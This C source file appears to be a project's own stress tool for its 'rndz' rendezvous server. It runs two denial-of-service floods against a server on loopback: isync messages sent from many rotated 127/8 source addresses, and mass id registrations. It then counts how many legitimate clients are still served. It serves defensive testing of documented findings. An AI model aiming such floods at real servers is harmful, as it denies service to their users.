/* rndz-attack.c: two attacks on a running server, and what they cost others
 *
 * SPDX-License-Identifier: MIT
 *
 * Usage: rndz-attack --port PORT isync-flood [--rate N] [--sources N]
 *        rndz-attack --port PORT register-flood [--ids N] [--sources N]
 *
 * Against `rndz server --listen-addr 127.0.0.1:PORT` (doc/security.md,
 * "The stress program"), from source addresses all over 127/8, which is
 * loopback on Linux:
 *
 *  - isync-flood: alice registers from 127.0.0.1; --rate isyncs a second
 *    name her, from --sources addresses of 127.1/16 (one socket, the source
 *    chosen per datagram with IP_PKTINFO), for 4 s; after 1 s, 20
 *    requesters of 127.2.0/24 ask for alice once each, 50 ms apart,
 *    retransmitting and obeying rate-limited errors as rndz-glib does, for
 *    up to 3 s each. Prints how many got their redirect (issue 18,
 *    finding 3).
 *  - register-flood: --ids ids (100,000) are registered from --sources
 *    addresses (400) of 127.3/16, 20,000 a second, until the server
 *    has answered that many, for at most 15 s; then 20 listeners of 127.4.0/24 register. Prints how many
 *    ids the flood got and how many listeners were refused (finding 8).
 *
 * Messages are padded with this build's rndz_message_max_reply_size(),
 * which is at least what older servers ask for.
 */

#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include <glib.h>

#include "rndz-message-private.h"

#define N_LEGIT 20

static int opt_port = 0;
static int opt_rate = 10000;
static int opt_sources = 0;
static int opt_ids = 100000;

static struct sockaddr_in server;

static int
udp_socket (const char *host)
{
  struct sockaddr_in local = { .sin_family = AF_INET };
  int fd = socket (AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0);
  int size = 4 << 20;

  if (fd < 0)
    g_error ("socket: %s", g_strerror (errno));
  setsockopt (fd, SOL_SOCKET, SO_RCVBUF, &size, sizeof size);
  inet_pton (AF_INET, host, &local.sin_addr);
  if (bind (fd, (struct sockaddr *) &local, sizeof local) < 0)
    g_error ("bind %s: %s", host, g_strerror (errno));
  return fd;
}

static void
send_msg (int          fd,
          RndzMessage *msg)
{
  char buf[RNDZ_MESSAGE_DEFAULT_MAX_SIZE];
  gsize len;

  msg->pad_to = rndz_message_max_reply_size (msg);
  len = rndz_message_encode (msg, buf, sizeof buf);
  sendto (fd, buf, len, 0, (struct sockaddr *) &server, sizeof server);
}

/* Sends @len bytes to the server from @source (in network order) */
static void
send_from (int          fd,
           guint32      source,
           const char  *data,
           gsize        len)
{
  char control[CMSG_SPACE (sizeof (struct in_pktinfo))] = { 0 };
  struct iovec iov = { (void *) data, len };
  struct msghdr mh = {
    .msg_name = &server, .msg_namelen = sizeof server,
    .msg_iov = &iov, .msg_iovlen = 1,
    .msg_control = control, .msg_controllen = sizeof control,
  };
  struct cmsghdr *cmsg = CMSG_FIRSTHDR (&mh);
  struct in_pktinfo *info;

  cmsg->cmsg_level = IPPROTO_IP;
  cmsg->cmsg_type = IP_PKTINFO;
  cmsg->cmsg_len = CMSG_LEN (sizeof *info);
  info = (struct in_pktinfo *) CMSG_DATA (cmsg);
  info->ipi_spec_dst.s_addr = source;
  sendmsg (fd, &mh, MSG_DONTWAIT);
}

static gboolean
recv_msg (int          fd,
          RndzMessage *msg)
{
  char buf[RNDZ_MESSAGE_DEFAULT_MAX_SIZE + 1];
  gssize len = recv (fd, buf, sizeof buf, MSG_DONTWAIT);

  return len > 0 && rndz_message_decode (msg, buf, len, RNDZ_MESSAGE_DEFAULT_MAX_SIZE, NULL);
}

static void
ping (int         fd,
      const char *id,
      guint32     tid)
{
  RndzMessage msg;

  rndz_message_init (&msg, RNDZ_MESSAGE_PING, tid);
  g_strlcpy (msg.id, id, sizeof msg.id);
  send_msg (fd, &msg);
}

/* isync-flood */

typedef struct
{
  int fd;
  char id[16];
  gint64 start, next, give_up;
  guint retries;
  gboolean done;
} Legit;

static void
legit_send (Legit *legit)
{
  RndzMessage msg;

  rndz_message_init (&msg, RNDZ_MESSAGE_ISYNC, 4242);
  g_strlcpy (msg.id, legit->id, sizeof msg.id);
  g_strlcpy (msg.target, "alice", sizeof msg.target);
  send_msg (legit->fd, &msg);
}

/* Like rndz-request.c: again after 200, 400, 800 ms, then every second;
 * after a rate-limited error, when it says */
static void
legit_poll (Legit  *legit,
            gint64  now)
{
  RndzMessage msg;

  while (recv_msg (legit->fd, &msg))
    {
      if (msg.type == RNDZ_MESSAGE_REDIRECT)
        legit->done = TRUE;
      else if (msg.type == RNDZ_MESSAGE_ERROR && msg.code == RNDZ_WIRE_ERROR_RATE_LIMITED)
        legit->next = now + MAX (msg.retry_ms, 1) * (gint64) 1000;
    }
  if (!legit->done && legit->next <= now && now < legit->give_up)
    {
      legit_send (legit);
      legit->next = now + MIN (200 << MIN (legit->retries, 2), 1000) * (gint64) 1000;
      legit->retries++;
    }
}

/* alice answers every fsync with an rsync, as a listener does */
static void
alice_poll (int alice)
{
  RndzMessage msg, rsync;

  while (recv_msg (alice, &msg))
    if (msg.type == RNDZ_MESSAGE_FSYNC)
      {
        rndz_message_init (&rsync, RNDZ_MESSAGE_RSYNC, msg.tid);
        g_strlcpy (rsync.id, "alice", sizeof rsync.id);
        g_strlcpy (rsync.target, msg.id, sizeof rsync.target);
        send_msg (alice, &rsync);
      }
}

static int
isync_flood (void)
{
  int alice = udp_socket ("127.0.0.1"), flood = udp_socket ("0.0.0.0");
  int sources = opt_sources > 0 ? opt_sources : 1000;
  char isync[RNDZ_MESSAGE_DEFAULT_MAX_SIZE];
  gsize isync_len;
  Legit legit[N_LEGIT];
  gint64 start, now;
  guint64 flooded = 0;
  guint ok = 0;
  RndzMessage msg;
  int one = 1;

  setsockopt (flood, IPPROTO_IP, IP_PKTINFO, &one, sizeof one);
  ping (alice, "alice", 1);
  g_usleep (100 * 1000);
  if (!recv_msg (alice, &msg) || msg.type != RNDZ_MESSAGE_PONG)
    g_error ("alice did not register");

  rndz_message_init (&msg, RNDZ_MESSAGE_ISYNC, 7);
  g_strlcpy (msg.id, "mallory", sizeof msg.id);
  g_strlcpy (msg.target, "alice", sizeof msg.target);
  msg.pad_to = rndz_message_max_reply_size (&msg);
  isync_len = rndz_message_encode (&msg, isync, sizeof isync);

  start = g_get_monotonic_time ();
  for (guint l = 0; l < N_LEGIT; l++)
    {
      g_autofree char *host = g_strdup_printf ("127.2.0.%u", l + 1);

      legit[l].fd = udp_socket (host);
      g_snprintf (legit[l].id, sizeof legit[l].id, "legit-%u", l);
      legit[l].next = start + (1000 + 50 * l) * (gint64) 1000;
      legit[l].give_up = legit[l].next + 3 * G_USEC_PER_SEC;
      legit[l].retries = 0;
      legit[l].done = FALSE;
    }

  while ((now = g_get_monotonic_time ()) - start < 4 * G_USEC_PER_SEC)
    {
      for (; flooded < (guint64) (now - start) * opt_rate / G_USEC_PER_SEC; flooded++)
        {
          guint f = flooded % sources;

          /* 127.1.x.y, y from 1 to 250 */
          send_from (flood, htonl (0x7f010000 | (f / 250) << 8 | (f % 250 + 1)), isync, isync_len);
        }
      alice_poll (alice);
      for (guint l = 0; l < N_LEGIT; l++)
        legit_poll (&legit[l], now);
      g_usleep (200);
    }

  for (guint l = 0; l < N_LEGIT; l++)
    ok += legit[l].done;
  printf ("isync-flood: %" G_GUINT64_FORMAT " isyncs of %zu bytes in 4 s (%.0f/s) from %d addresses: "
          "%u of %u requesters reached alice\n",
          flooded, (size_t) isync_len, flooded / 4.0, sources, ok, N_LEGIT);
  return 0;
}

/* register-flood */

/* N_LEGIT listeners of 127.4.0/24 register once each */
static void
listeners_register (guint *registered,
                    guint *refused)
{
  RndzMessage msg;

  for (guint l = 0; l < N_LEGIT; l++)
    {
      g_autofree char *host = g_strdup_printf ("127.4.0.%u", l + 1);
      g_autofree char *id = g_strdup_printf ("listener-%u", l);
      int fd = udp_socket (host);
      struct pollfd pfd = { fd, POLLIN, 0 };

      ping (fd, id, 1);
      if (poll (&pfd, 1, 1000) == 1 && recv_msg (fd, &msg))
        {
          if (msg.type == RNDZ_MESSAGE_PONG)
            (*registered)++;
          else
            (*refused)++;
        }
      close (fd);
    }
}

static int
register_flood (void)
{
  int sources = opt_sources > 0 ? opt_sources : 400;
  g_autofree int *fds = g_new (int, sources);
  guint64 sent = 0, pongs = 0, full = 0;
  guint refused = 0, registered = 0;
  gint64 start = g_get_monotonic_time ();
  RndzMessage msg;

  for (int s = 0; s < sources; s++)
    {
      g_autofree char *host = g_strdup_printf ("127.3.%d.%d", s / 250, s % 250 + 1);

      fds[s] = udp_socket (host);
    }

  /* 20,000 new ids a second, round the sources, until the server has
   * answered --ids of them (some are lost on the way) */
  while (pongs + full < (guint64) opt_ids && g_get_monotonic_time () - start < 15 * G_USEC_PER_SEC)
    {
      guint64 due = (g_get_monotonic_time () - start) * 20000 / G_USEC_PER_SEC;

      for (int s = 0; s < sources; s++)
        {
          while (recv_msg (fds[s], &msg))
            {
              if (msg.type == RNDZ_MESSAGE_PONG)
                pongs++;
              else if (msg.type == RNDZ_MESSAGE_ERROR && msg.code == RNDZ_WIRE_ERROR_SERVER_FULL)
                full++;
            }
          if (sent < due)
            {
              char id[32];

              g_snprintf (id, sizeof id, "flood-%" G_GUINT64_FORMAT, sent);
              ping (fds[s], id, (guint32) sent + 1);
              sent++;
            }
        }
    }

  listeners_register (&registered, &refused);

  printf ("register-flood: %" G_GUINT64_FORMAT " ids sent from %d addresses of one /16 in %.1f s: "
          "%" G_GUINT64_FORMAT " registered, %" G_GUINT64_FORMAT " server-full; then %u of %u "
          "listeners of another network registered, %u refused\n",
          sent, sources, (g_get_monotonic_time () - start) / 1e6, pongs, full,
          registered, N_LEGIT, refused);
  return 0;
}

int
main (int   argc,
      char *argv[])
{
  GOptionEntry entries[] = {
    { "port", 'p', 0, G_OPTION_ARG_INT, &opt_port, "The server's port on 127.0.0.1", "PORT" },
    { "rate", 0, 0, G_OPTION_ARG_INT, &opt_rate, "isync-flood: isyncs a second (10000)", "N" },
    { "sources", 0, 0, G_OPTION_ARG_INT, &opt_sources, "Attacking addresses (1000; 400)", "N" },
    { "ids", 0, 0, G_OPTION_ARG_INT, &opt_ids, "register-flood: ids (100000)", "N" },
    { NULL }
  };
  g_autoptr(GOptionContext) context = g_option_context_new ("isync-flood|register-flood");
  g_autoptr(GError) error = NULL;

  g_option_context_add_main_entries (context, entries, NULL);
  if (!g_option_context_parse (context, &argc, &argv, &error) || argc != 2 || opt_port <= 0)
    {
      g_printerr ("%s\n", error != NULL ? error->message : "give --port and a mode");
      return 2;
    }

  server.sin_family = AF_INET;
  server.sin_port = htons (opt_port);
  inet_pton (AF_INET, "127.0.0.1", &server.sin_addr);

  if (g_str_equal (argv[1], "isync-flood"))
    return isync_flood ();
  if (g_str_equal (argv[1], "register-flood"))
    return register_flood ();
  g_printerr ("unknown mode %s\n", argv[1]);
  return 2;
}
